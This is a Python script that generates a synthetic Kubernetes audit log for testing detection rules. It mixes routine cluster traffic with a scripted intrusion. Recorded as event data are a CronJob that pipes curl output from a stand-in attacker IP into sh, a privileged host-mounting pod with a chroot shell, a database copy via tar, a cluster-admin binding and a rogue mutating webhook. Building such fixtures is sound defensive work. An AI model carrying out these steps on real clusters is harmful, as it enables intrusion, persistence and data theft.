#!/usr/bin/env python3
"""Writes samples/audit.jsonl: half an hour of audit traffic from a small
production-like cluster (3 nodes, a payments app, GitOps, monitoring, an
ingress controller, cert-manager, Cilium), one compact Event per line.

Most of it is routine and must stay quiet — including the things our rules
deliberately exempt (Cilium and node-exporter running privileged / with host
access in their namespaces, an Istio init container with NET_ADMIN, the
ingress controller watching secrets cluster-wide, cert-manager patching a
webhook's caBundle, Prometheus scraping cadvisor through nodes/proxy, the
kubelet fetching secrets and tokens, anonymous health checks).

Woven in is one intrusion, in order: a web pod's service account token is
stolen and used from a script (enumeration, secret reads, a denied
cluster-wide secret list), then a developer's credentials are used from an
unusual address to plant a privileged host-mounting pod, exec a shell in it,
copy a database out, mint a token for a kube-system service account, bind
cluster-admin, register a mutating webhook, leave a CronJob behind, expose a
NodePort and delete the Events; a node credential is replayed with curl.

Deterministic: re-running produces the same file.
    python3 samples/make_sample.py            # writes samples/audit.jsonl
"""
import json
import os
import random
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import events as g  # noqa: E402  (the event builders)

rnd = random.Random(20240501)
NODES = ["ip-10-0-11-21.ec2.internal", "ip-10-0-12-54.ec2.internal", "ip-10-0-13-87.ec2.internal"]
NODE_IP = {n: "10.0.%s.%s" % (n.split("-")[3], n.split("-")[4].split(".")[0]) for n in NODES}
SCHED_UA = "kube-scheduler/v1.29.3 (linux/amd64) kubernetes/6813625"
ARGO = "system:serviceaccount:argocd:argocd-application-controller"
ARGO_UA = "argocd-application-controller/v2.10.1"
PROM = "system:serviceaccount:monitoring:prometheus-k8s"
DEVS = ["alice@example.com", "bob@example.com", "carol@example.com"]
DEV_IP = {"alice@example.com": "198.51.100.23", "bob@example.com": "198.51.100.41", "carol@example.com": "198.51.100.77"}
ATTACKER_IP = "203.0.113.66"
APPS = [("payments", "payments-api", "ghcr.io/acme/payments-api:3.2.1"),
        ("payments", "ledger", "ghcr.io/acme/ledger:1.8.0"),
        ("web", "web-frontend", "ghcr.io/acme/web-frontend:5.0.2"),
        ("web", "cart", "ghcr.io/acme/cart:2.4.0")]

events = []


def emit(e, src=None):
    if src:
        e["sourceIPs"] = [src]
    events.append(e)
    return e


def suffix(n=5):
    return "".join(rnd.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(n))


# ------------------------------------------------------------ routine traffic
def kubelet_status():
    n = rnd.choice(NODES)
    ns, app, _ = rnd.choice(APPS)
    emit(g.ev("patch", "pods", ns=ns, name="%s-6c9f7d-%s" % (app, suffix()), sub="status", user="system:node:" + n,
              ua=g.KUBELET, reason=""), NODE_IP[n])


def kubelet_lease():
    n = rnd.choice(NODES)
    emit(g.ev("update", "leases", ns="kube-node-lease", name=n, user="system:node:" + n, ua=g.KUBELET, reason=""), NODE_IP[n])


def kubelet_secret():
    n = rnd.choice(NODES)
    ns, app, _ = rnd.choice(APPS)
    emit(g.ev(rnd.choice(["get", "watch"]), "secrets", ns=ns, name=app + "-db", user="system:node:" + n, ua=g.KUBELET,
              reason=""), NODE_IP[n])


def kubelet_token():
    n = rnd.choice(NODES)
    ns, app, _ = rnd.choice(APPS)
    emit(g.ev("create", "serviceaccounts", ns=ns, name=app, sub="token", user="system:node:" + n, ua=g.KUBELET,
              req={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1",
                   "spec": {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 3607}}, reason=""),
         NODE_IP[n])


def controller_lease():
    who = rnd.choice(["kube-controller-manager", "kube-scheduler"])
    emit(g.ev("update", "leases", ns="kube-system", name=who, user="system:" + who,
              ua=g.KCM if who.endswith("manager") else SCHED_UA, reason=""), "10.0.0.10")


def scheduler_event():
    ns, app, _ = rnd.choice(APPS)
    emit(g.ev("create", "events", ns=ns, name="%s.%x" % (app, rnd.getrandbits(48)), user="system:kube-scheduler",
              ua=SCHED_UA, reason=""), "10.0.0.10")


def coredns_watch():
    emit(g.ev(rnd.choice(["list", "watch"]), rnd.choice(["services", "endpoints", "namespaces"]),
              user="system:serviceaccount:kube-system:coredns", ua="coredns/v1.11.1 (linux/amd64) kubernetes/ae2bbc2",
              reason=""), "10.0.12.54")


def dev_reads():
    d = rnd.choice(DEVS)
    ns, app, _ = rnd.choice(APPS)
    kind = rnd.choice(["pods", "deployments", "services", "configmaps", "events"])
    verb = rnd.choice(["get", "list", "list"])
    e = g.ev(verb, kind, ns=ns, name=app if verb == "get" else None, user=d, ua=g.KUBECTL)
    emit(e, DEV_IP[d])
    if rnd.random() < 0.3:
        emit(g.ev("get", "pods", ns=ns, name="%s-6c9f7d-%s" % (app, suffix()), sub="log", user=d), DEV_IP[d])


def argo_sync():
    ns, app, img = rnd.choice(APPS)
    emit(g.ev("get", "deployments", ns=ns, name=app, user=ARGO, ua=ARGO_UA, reason=""), "10.0.13.87")
    if rnd.random() < 0.25:
        emit(g.workload("deployments", ns, app, {"containers": [g.ctr(img, name="app", sc={"runAsNonRoot": True, "allowPrivilegeEscalation": False})]},
                        verb="patch", user=ARGO, ua=ARGO_UA), "10.0.13.87")


def rollout():
    ns, app, img = rnd.choice(APPS)
    rs = "%s-%s" % (app, suffix(9).lower()[:9])
    emit(g.workload("replicasets", ns, rs, {"containers": [g.ctr(img, name="app")]},
                    user="system:serviceaccount:kube-system:deployment-controller", ua=g.KCM), "10.0.0.10")
    for _ in range(2):
        emit(g.pod(ns=ns, name="%s-%s" % (rs, suffix()), sa=app,
                   containers=[g.ctr(img, name="app", sc={"runAsNonRoot": True, "allowPrivilegeEscalation": False,
                                                          "capabilities": {"drop": ["ALL"]}})]), "10.0.0.10")


def meshed_pod():
    rs = "cart-7f9c4d-%s" % suffix()
    emit(g.pod(ns="web", name=rs, sa="cart",
               init=[g.ctr("docker.io/istio/proxyv2:1.21.0", name="istio-init",
                           sc={"capabilities": {"add": ["NET_ADMIN", "NET_RAW"], "drop": ["ALL"]}})],
               containers=[g.ctr("ghcr.io/acme/cart:2.4.0", name="app"),
                           g.ctr("docker.io/istio/proxyv2:1.21.0", name="istio-proxy", sc={"capabilities": {"drop": ["ALL"]}})]),
         "10.0.0.10")


def node_agents():
    n = rnd.choice(NODES)
    emit(g.pod(ns="kube-system", name="cilium-" + suffix(), user=g.DS_CTRL, owner="DaemonSet", hostNetwork=True,
               init=[g.ctr("quay.io/cilium/cilium:v1.15.1", name="mount-cgroup", sc={"privileged": True})],
               containers=[g.ctr("quay.io/cilium/cilium:v1.15.1", name="cilium-agent", sc={"privileged": True})],
               volumes=[g.hostpath("bpf-maps", "/sys/fs/bpf", "DirectoryOrCreate"), g.hostpath("cni-path", "/opt/cni/bin")],
               nodeName=n), "10.0.0.10")
    emit(g.pod(ns="monitoring", name="node-exporter-" + suffix(), user=g.DS_CTRL, owner="DaemonSet", hostNetwork=True,
               hostPID=True, containers=[g.ctr("quay.io/prometheus/node-exporter:v1.7.0", name="node-exporter")],
               volumes=[g.hostpath("proc", "/proc"), g.hostpath("sys", "/sys"), g.hostpath("root", "/")], nodeName=n),
         "10.0.0.10")


def prometheus():
    n = rnd.choice(NODES)
    emit(g.ev("get", "nodes", name=n, sub="proxy", uri="/api/v1/nodes/%s/proxy/metrics/cadvisor" % n, user=PROM,
              ua="Prometheus/2.50.1", reason=""), "10.0.11.21")
    if rnd.random() < 0.5:
        emit(g.ev("list", "pods", user=PROM, ua="Prometheus/2.50.1", reason=""), "10.0.11.21")


def ingress_watch():
    emit(g.ev("watch", "secrets", user="system:serviceaccount:ingress-nginx:ingress-nginx",
              ua="nginx-ingress-controller/v1.10.0 (linux/amd64) ingress-nginx/71f78d49f", query="watch=true",
              reason=""), "10.0.12.54")


def cert_manager():
    emit(g.ev("patch", "validatingwebhookconfigurations", name="cert-manager-webhook",
              user="system:serviceaccount:cert-manager:cert-manager-cainjector", ua="cainjector/v1.14.2",
              req={"webhooks": [{"name": "webhook.cert-manager.io", "clientConfig": {"caBundle": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg=="}}]},
              reason=""), "10.0.13.87")


def health():
    path = rnd.choice(["/healthz", "/readyz", "/livez", "/version"])
    emit(g.ev("get", None, uri=path, user="system:anonymous", ua="kube-probe/1.29", reason=""), "10.0.0.1")


def app_reads_config():
    ns, app, _ = rnd.choice(APPS)
    emit(g.ev("get", "configmaps", ns=ns, name=app + "-settings", user="system:serviceaccount:%s:%s" % (ns, app),
              ua="%s/3.2 (linux/amd64) client-go" % app, reason=""), "10.0.%d.%d" % (rnd.randint(11, 13), rnd.randint(30, 200)))


def cronjob_controller():
    job = "ledger-reconcile-%d" % rnd.randint(28571200, 28571299)
    emit(g.ev("create", "jobs", ns="payments", name=job, user="system:serviceaccount:kube-system:cronjob-controller", ua=g.KCM,
              req={"kind": "Job", "apiVersion": "batch/v1",
                   "metadata": {"name": job, "namespace": "payments",
                                "ownerReferences": [{"apiVersion": "batch/v1", "kind": "CronJob", "name": "ledger-reconcile",
                                                     "uid": "9d4c1f57-4b0a-4a59-8f62-0b7f1c3b8e21", "controller": True}]},
                   "spec": {"template": {"spec": {"containers": [g.ctr("ghcr.io/acme/ledger:1.8.0", name="reconcile")],
                                                  "restartPolicy": "Never"}}}}, reason=""), "10.0.0.10")


def dev_exec_benign():
    d = rnd.choice(DEVS)
    ns, app, _ = rnd.choice(APPS)
    # a developer's routine exec: recorded by Pod Exec Or Attach only when
    # peregrine_access_activity_enabled is on, silent by default
    emit(g.exec_(ns, "%s-6c9f7d-%s" % (app, suffix()), ["ls", "/app/config"], user=d), DEV_IP[d])


ROUTINE = [(kubelet_status, 14), (kubelet_lease, 10), (kubelet_secret, 4), (kubelet_token, 4), (controller_lease, 8),
           (scheduler_event, 5), (coredns_watch, 4), (dev_reads, 10), (argo_sync, 6), (rollout, 2), (meshed_pod, 1),
           (node_agents, 1), (prometheus, 4), (ingress_watch, 2), (cert_manager, 1), (health, 6), (app_reads_config, 6),
           (cronjob_controller, 1), (dev_exec_benign, 1)]


def routine(n):
    funcs = [f for f, w in ROUTINE for _ in range(w)]
    for _ in range(n):
        rnd.choice(funcs)()


# ------------------------------------------------------------ the intrusion
SA = "system:serviceaccount:web:web-frontend"
SCRIPT_UA = "python-requests/2.31.0"
MALLORY = "carol@example.com"   # a developer whose kubeconfig was stolen


def attack_stage_1():
    emit(g.ev("create", "selfsubjectrulesreviews", user=SA, ua="kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
              req={"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"namespace": "web"}}),
         "10.0.12.133")
    emit(g.ev("get", "secrets", ns="web", name="web-frontend-stripe", user=SA, ua=SCRIPT_UA), "10.0.12.133")
    emit(g.ev("list", "secrets", user=SA, ua=SCRIPT_UA, code=403,
              reason=""), "10.0.12.133")


def attack_stage_2():
    ip = ATTACKER_IP
    u = MALLORY
    emit(g.pod(ns="web", name="web-debug", user=u, ua=g.KUBECTL, owner=None, hostPID=True,
               containers=[g.ctr("alpine:3.19", name="shell", sc={"privileged": True},
                                 cmd=["sh", "-c", "sleep infinity"], mounts=[{"name": "host", "mountPath": "/host"}])],
               volumes=[g.hostpath("host", "/")]), ip)
    emit(g.exec_("web", "web-debug", ["sh", "-c", "chroot /host bash -i"], user=u, container="shell"), ip)
    emit(g.exec_("payments", "ledger-db-0", ["tar", "cf", "-", "/var/lib/postgresql/data"], user=u, container="postgres"), ip)
    emit(g.ev("create", "serviceaccounts", ns="kube-system", name="clusterrole-aggregation-controller", sub="token", user=u,
              req={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1",
                   "spec": {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 31536000}}), ip)


def attack_stage_3():
    ip = ATTACKER_IP
    u = MALLORY
    emit(g.binding("clusterrolebindings", "metrics-reader-ext", "cluster-admin",
                   [g.subj("ServiceAccount", "web-frontend", "web")], user=u), ip)
    emit(g.ev("create", "mutatingwebhookconfigurations", name="pod-defaults", user=u,
              req={"kind": "MutatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1",
                   "metadata": {"name": "pod-defaults"},
                   "webhooks": [{"name": "defaults.pods.example.net", "clientConfig": {"url": "https://%s:8443/mutate" % ip},
                                 "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}],
                                 "sideEffects": "None", "admissionReviewVersions": ["v1"], "failurePolicy": "Ignore"}]}), ip)
    emit(g.workload("cronjobs", "web", "cache-warmer",
                    {"containers": [g.ctr("curlimages/curl:8.5.0", cmd=["sh", "-c", "curl -s http://%s/s | sh" % ip])],
                     "restartPolicy": "OnFailure"}, user=u), ip)
    emit(g.ev("create", "services", ns="web", name="web-debug", user=u,
              req={"kind": "Service", "apiVersion": "v1", "metadata": {"name": "web-debug", "namespace": "web"},
                   "spec": {"type": "NodePort", "selector": {"app": "web"},
                            "ports": [{"port": 22, "targetPort": 22, "nodePort": 30022}]}}), ip)
    emit(g.ev("deletecollection", "events", ns="web", user=u), ip)


def attack_stage_4():
    n = NODES[2]
    # the web-frontend token, cluster-admin since stage 3, reads kube-system's secrets
    emit(g.ev("list", "secrets", ns="kube-system", user=SA, ua=SCRIPT_UA), "10.0.12.133")
    emit(g.ev("get", "secrets", ns="payments", name="ledger-db", user="system:node:" + n, ua="curl/8.4.0"), ATTACKER_IP)
    emit(g.pod(ns="default", name="builder", user=MALLORY, ua=g.KUBECTL, owner=None,
               containers=[g.ctr("docker:24-cli", name="docker", mounts=[{"name": "sock", "mountPath": "/var/run/docker.sock"}])],
               volumes=[g.hostpath("sock", "/var/run/docker.sock", "Socket")]), ATTACKER_IP)
    emit(g.cm("payments", "ledger-export", {"export.env": "AWS_ACCESS_KEY_ID=AKIAQ3EXAMPLE7TESTKEY\nBUCKET=acme-ledger\n"},
              user=MALLORY), ATTACKER_IP)
    emit(g.ev("list", "pods", ns="payments", user=MALLORY, imp={"username": "admin", "groups": ["system:masters"]}),
         ATTACKER_IP)


def main():
    routine(70)
    attack_stage_1()
    routine(60)
    attack_stage_2()
    routine(50)
    attack_stage_3()
    routine(50)
    attack_stage_4()
    routine(40)
    # realistic timeline: 2024-05-01 09:30 UTC onwards, 1-9 s apart
    t = 1714555800.0
    for i, e in enumerate(events):
        t += rnd.uniform(1.0, 9.0)
        sec = int(t)
        us = int((t - sec) * 1e6)
        import time
        stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sec)) + ".%06dZ" % us
        e["auditID"] = "%08x-%04x-4%03x-a%03x-%012x" % (rnd.getrandbits(32), rnd.getrandbits(16), rnd.getrandbits(12),
                                                        rnd.getrandbits(12), rnd.getrandbits(48))
        e["requestReceivedTimestamp"] = stamp
        e["stageTimestamp"] = stamp
    out = os.path.join(HERE, "audit.jsonl")
    with open(out, "w") as fh:
        for e in events:
            fh.write(json.dumps(e, separators=(",", ":"), ensure_ascii=False) + "\n")
    print("wrote %s (%d events)" % (out, len(events)))


if __name__ == "__main__":
    main()
